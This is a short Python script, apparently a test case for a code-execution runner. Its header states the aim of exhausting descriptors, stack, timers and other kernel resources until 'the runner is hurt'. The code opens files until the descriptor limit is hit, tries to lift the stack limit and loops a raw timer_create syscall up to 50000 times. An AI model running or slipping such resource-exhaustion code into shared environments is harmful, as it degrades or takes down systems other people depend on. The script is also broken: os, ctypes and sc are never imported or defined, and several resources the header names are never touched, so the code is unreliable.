# TRIES: to take all descriptors, the largest stack, the most mappings, timers, inotify watches and epoll sets. SUCCESS: the runner is
# hurt.
#: check = hurt; runner
#: start = syscalls

import resource


def solve(x):
    held = []
    try:
        while True:
            held.append(os.open("/dev/null", os.O_RDONLY))
    except OSError as e:
        print(len(held), e)
    for f in held[:100]:
        os.close(f)
    resource.setrlimit(resource.RLIMIT_STACK, (resource.RLIM_INFINITY, resource.RLIM_INFINITY)) if resource.getrlimit(
        resource.RLIMIT_STACK
    )[1] == resource.RLIM_INFINITY else None
    n = 0
    t = ctypes.c_int()
    while sc(222, 1, 0, ctypes.byref(t)) == 0 and n < 50000:
        n += 1
    print("timers", n)
    return 2
